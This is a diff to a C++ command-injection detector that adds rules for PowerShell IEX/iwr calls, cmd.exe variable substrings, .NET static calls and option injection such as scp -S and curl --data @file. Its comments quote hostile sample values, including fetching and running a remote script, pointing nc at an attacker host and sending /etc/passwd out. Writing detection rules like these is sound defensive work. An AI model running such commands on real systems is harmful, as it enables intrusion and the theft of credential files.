@@ -651,6 +651,13 @@ bool IsWindowsShell(std::string_view name) {
   return name == "powershell" || name == "pwsh" || name == "cmd";
 }
 
+// PowerShell's cmdlets and their aliases, which take a parenthesized
+// expression as an argument ("IEX(iwr http://x/r.ps1)").
+bool IsPowerShellCommand(std::string_view name) {
+  return scan::IEqualsAny(name, {"iex", "iwr", "irm"}) || scan::IAt(name, 0, "invoke-") ||
+         scan::IAt(name, 0, "start-") || scan::IAt(name, 0, "new-object");
+}
+
 // PHP's functions that run a command or code they are given, and those that
 // decode a string (the layers code is hidden under).
 constexpr std::string_view kPhpRunners[] = {"system",  "passthru",       "shell_exec", "exec",
@@ -1033,6 +1040,12 @@ bool PlausibleAfterOperator(std::string_view v, size_t p, bool at_start) {
   }
   const Word w = ReadWord(v, q);
   if (ResolveWord(w).tier != Tier::kNone) return true;
+  // "cat & dog", "rock | pop": one '&' or '|' between blanks joins two words
+  // in prose; a value that opens with a command puts a command after it.
+  if (at_start && p > 0 && IsBlank(v[p - 1]) && p + 1 < v.size() && IsBlank(v[p + 1]) &&
+      (v[p] == '&' || v[p] == '|')) {
+    return false;
+  }
   if (w.too_long || w.plain_len == 0 || w.plain_upper != 0 || w.glob) return false;
   if (!(w.plain[0] >= 'a' && w.plain[0] <= 'z')) return false;
   for (size_t k = 0; k < w.plain_len; ++k) {
@@ -1224,7 +1237,7 @@ ArgShape ClassifyArg(std::string_view v, size_t p, std::string_view command, boo
     return PlausibleAfterOperator(v, p, at_start) ? ArgShape::kSeparator : ArgShape::kInvalid;
   }
   if (c == '`' || c == '#') return ArgShape::kSeparator;
-  if (c == '(') return ArgShape::kInvalid;
+  if (c == '(') return IsPowerShellCommand(command) ? ArgShape::kShell : ArgShape::kInvalid;
   if (c == ')' || c == '\'' || c == '"') {
     // A quote right after the command closes the injected string: "';id'".
     return at_start ? ArgShape::kInvalid : ArgShape::kSeparator;
@@ -1258,13 +1271,19 @@ ArgShape ClassifyArg(std::string_view v, size_t p, std::string_view command, boo
   // find in the response (";echo 111111").
   if (IsDigit(c) && (command == "sleep" || command == "ping" || command == "timeout" ||
                      command == "kill" || command == "nc" || command == "ncat" ||
-                     command == "echo")) {
+                     command == "echo" || command == "expr")) {
     // A value that opens "sleep 5 minutes, then ..." or "ping 3 times" is
     // prose: a count followed by a word that is no command.
     // "echo" is a word too ("Rated 5; echo 5 stars"): its number must not
     // be a count of something anywhere.
-    return (at_start || command == "echo") && CountThenProseWord(v, p) ? ArgShape::kWordy
-                                                                          : ArgShape::kShell;
+    return (at_start || command == "echo" || command == "expr") && CountThenProseWord(v, p)
+               ? ArgShape::kWordy
+               : ArgShape::kShell;
+  }
+  // An arithmetic expansion inside the argument ("cmdi$((1337*3))"): the
+  // shell's alone.
+  for (size_t k = p; k < v.size() && k - p < 64 && !IsBlank(v[k]); ++k) {
+    if (v[k] == '$' && v.compare(k + 1, 2, "((") == 0) return ArgShape::kShell;
   }
   // A host a network tool is pointed at ("| nc attacker.example 4444").
   // (Opening the value it is an instruction: "ping example.com".)
@@ -1292,10 +1311,15 @@ ArgShape ClassifyArg(std::string_view v, size_t p, std::string_view command, boo
     return ArgShape::kShell;
   }
   // A file name with an extension ("cat index.php", "type win.ini").
+  // ("18.x" is a version range.)
   if (e < v.size() && v[e] == '.' && e + 1 < v.size() && IsAlpha(v[e + 1])) {
     size_t x = e + 1;
     while (x < v.size() && IsAlnum(v[x])) ++x;
-    if (x - e - 1 <= 4 && (x >= v.size() || !IsAlnum(v[x]))) return ArgShape::kShell;
+    const bool version = x == e + 2 && Lower(v[e + 1]) == 'x' &&
+                         std::all_of(v.begin() + p, v.begin() + e, IsDigit);
+    if (x - e - 1 <= 4 && (x >= v.size() || !IsAlnum(v[x])) && !version) {
+      return ArgShape::kShell;
+    }
   }
   return ArgShape::kWordy;
 }
@@ -1483,6 +1507,17 @@ class CmdiImpl final : public Detector {
       return true;
     }
     if (InspectBatchControl(v, in.mask, m)) return true;
+    // Read in the raw value: "%PATH:~0,1%12" is no percent escape to cmd.exe.
+    if (in.mask.Has('~') && in.mask.Has(':') && VariableSubstring(in.raw, m)) {
+      if (in.raw.data() != v.data()) {
+        m->offset = 0;
+        m->length = std::min(m->length, v.size());
+      }
+      return true;
+    }
+    if (in.mask.Has('[') && in.mask.Has(']') && in.mask.Has(':') && PowerShellStaticCall(v, m)) {
+      return true;
+    }
     // Read in the raw value: normalizing decodes the escapes.
     if (in.mask.Has('$') && in.mask.Has('\'') && AnsiCCommand(in.raw, m)) {
       if (in.raw.data() != v.data()) {
@@ -2379,8 +2414,20 @@ class CmdiImpl final : public Detector {
     const char c = v[start];
     const std::string_view first = v.substr(start, word_end(start) - start);
     const bool ext = first.starts_with("ext::");
+    // A file name the tool is given first ("x.zip -T --unzip-command=...").
+    const auto file_name = [](std::string_view w) {
+      const size_t dot = w.rfind('.');
+      if (w.size() > 64 || dot == 0 || dot == std::string_view::npos || dot + 1 == w.size()) {
+        return false;
+      }
+      for (char x : w) {
+        if (!IsAlnum(x) && x != '.' && x != '_' && x != '-') return false;
+      }
+      return true;
+    };
     if (c != '-' && c != '/' && c != '.' && c != '*' && c != '~' &&
-        !(scan::IsAlpha(c) && (ext || first.find("://") != std::string_view::npos))) {
+        !(scan::IsAlpha(c) &&
+          (ext || first.find("://") != std::string_view::npos || file_name(first)))) {
       return false;
     }
     // Every rule below needs an option: at the start or after a blank.
@@ -2436,7 +2483,7 @@ class CmdiImpl final : public Detector {
           (scan::EqualsAny(name, {"--upload-pack", "--receive-pack", "--checkpoint-action",
                                   "--to-command", "--use-compress-program", "--rsh",
                                   "--rsync-path", "--unzip-command", "--info-script",
-                                  "--new-volume-script"}) ||
+                                  "--new-volume-script", "--use-askpass"}) ||
            scan::IAt(name, 0, "-oproxycommand") || scan::IAt(name, 0, "-olocalcommand") ||
            (name == "-o" && (scan::IAt(arg, 0, "proxycommand") ||
                              scan::IAt(arg, 0, "localcommand"))) ||
@@ -2450,7 +2497,17 @@ class CmdiImpl final : public Detector {
         e_cmd.remove_prefix(1);
       }
       const bool remote_shell = scan::EqualsAny(e_cmd, {"sh", "bash", "dash", "zsh", "ksh"});
-      if (runs || find_exec || remote_shell) {
+      // scp's "-S program" with a remote "user@host:path" after it.
+      bool scp_program = false;
+      if (name == "-S" && eq == std::string_view::npos && path_like(next)) {
+        for (size_t j = i + 2; j < n && !scp_program; ++j) {
+          const std::string_view t = args[j].text;
+          const size_t at = t.find('@');
+          scp_program = at != std::string_view::npos && at > 0 &&
+                        t.find(':', at) != std::string_view::npos;
+        }
+      }
+      if (runs || find_exec || remote_shell || scp_program) {
         return FillMatch(m, "cmdi.argument_injection",
                          "Option " + std::string(name) + " injected as an argument runs a command",
                          80, args[i].at, len);
@@ -2459,8 +2516,14 @@ class CmdiImpl final : public Detector {
       if (url) {
         std::string_view out;
         if (name == "-o" || name == "-O" || name == "--output" || name == "--output-document" ||
-            name == "--post-file" || name == "--upload-file") {
+            name == "--post-file" || name == "--upload-file" || name == "-T") {
           out = arg;
+        } else if (name == "-d" || name == "-F" || name == "--form" ||
+                   scan::IAt(name, 0, "--data")) {
+          // curl sends the file an '@' names: "--data @/etc/passwd",
+          // "-F f=@/etc/passwd".
+          const size_t at = arg.find('@');
+          if (at != std::string_view::npos) out = arg.substr(at + 1);
         } else if ((a.starts_with("-o") || a.starts_with("-O")) && a.size() > 2 &&
                    eq == std::string_view::npos) {
           out = a.substr(2);
@@ -2794,6 +2857,66 @@ class CmdiImpl final : public Detector {
 
   // A FOR loop or IF statement where a command starts: the start of the
   // value (after quotes, blanks and '@') or after & | ; ( or a line break.
+  // cmd.exe's substring of a variable, "%COMSPEC:~0,1%" or
+  // "%ProgramFiles:~10,-5%": letters and blanks cut out of a variable to
+  // spell a command without writing it. Batch files use the form; the data
+  // a request carries does not.
+  static bool VariableSubstring(std::string_view v, Match* m) {
+    int checks = 16;
+    for (size_t t = v.find(":~"); t != std::string_view::npos && checks-- > 0;
+         t = v.find(":~", t + 2)) {
+      size_t b = t;
+      while (b > 0 && t - b < 40 && (scan::IsWordChar(v[b - 1]) || v[b - 1] == '(' ||
+                                      v[b - 1] == ')')) {
+        --b;
+      }
+      if (b == t || b == 0 || v[b - 1] != '%') continue;
+      size_t k = t + 2;
+      for (int part = 0; part < 2; ++part) {
+        if (k < v.size() && v[k] == '-') ++k;
+        const size_t d = k;
+        while (k < v.size() && k - d < 6 && IsDigit(v[k])) ++k;
+        if (k == d) break;
+        if (part == 0 && k < v.size() && v[k] == ',') ++k;
+      }
+      if (k < v.size() && v[k] == '%' && IsDigit(v[k - 1])) {
+        return FillMatch(m, "cmdi.variable_substring",
+                         "cmd.exe variable substring (%VAR:~n,m%) spells part of a command", 80,
+                         b - 1, k + 1 - (b - 1));
+      }
+    }
+    return false;
+  }
+
+  // PowerShell's call of a .NET static method, "[System.Net.Dns]::GetHostByName(",
+  // "[IO.File]::ReadAllText(", at the start of the value or after a separator.
+  static bool PowerShellStaticCall(std::string_view v, Match* m) {
+    int checks = 16;
+    for (size_t t = v.find("]::"); t != std::string_view::npos && checks-- > 0;
+         t = v.find("]::", t + 3)) {
+      size_t b = t;
+      bool dotted = false;
+      while (b > 0 && t - b < 80 && (scan::IsWordChar(v[b - 1]) || v[b - 1] == '.')) {
+        dotted = dotted || v[b - 1] == '.';
+        --b;
+      }
+      if (b == t || b == 0 || v[b - 1] != '[' || !dotted || !IsAlpha(v[b])) continue;
+      size_t a = b - 1;
+      while (a > 0 && IsBlank(v[a - 1])) --a;
+      const bool opens = a == 0 || v[a - 1] == ';' || v[a - 1] == '|' || v[a - 1] == '&' ||
+                         v[a - 1] == '(' || v[a - 1] == '\n' || v[a - 1] == '\r';
+      if (!opens) continue;
+      size_t k = t + 3;
+      while (k < v.size() && k - t < 80 && (scan::IsWordChar(v[k]) || v[k] == '.')) ++k;
+      if (k > t + 3 && k < v.size() && v[k] == '(') {
+        return FillMatch(m, "cmdi.powershell_static_call",
+                         "PowerShell call of a .NET static method after a separator", 80, b - 1,
+                         k + 1 - (b - 1));
+      }
+    }
+    return false;
+  }
+
   static bool InspectBatchControl(std::string_view v, const CharMask& mask, Match* m) {
     static constexpr uint64_t kFor = CharMask::AlnumOf("fordin");
     static constexpr uint64_t kIf = CharMask::AlnumOf("if");
@@ -3017,10 +3140,10 @@ class CmdiImpl final : public Detector {
     if (!line_command && !Decide(ctx, r.tier, arg)) return false;
     // Bounded so that many rejected positions on one long line stay linear.
     // (cmd.exe and PowerShell, which a Windows pipeline starts, read their
-    // own arguments: "| powershell IEX(New-Object ...)" is no bash syntax
-    // error to them.)
+    // own arguments: "| powershell IEX(New-Object ...)" and "; IEX(iwr ...)"
+    // are no bash syntax errors to them.)
     if (ctx != Context::kSubstitution && ctx != Context::kCodeSpan && *run_checks > 0 &&
-        !IsWindowsShell(r.name)) {
+        !IsWindowsShell(r.name) && !IsPowerShellCommand(r.name)) {
       --*run_checks;
       if (CannotRunAt(v, p, ctx == Context::kStart)) return false;
     }
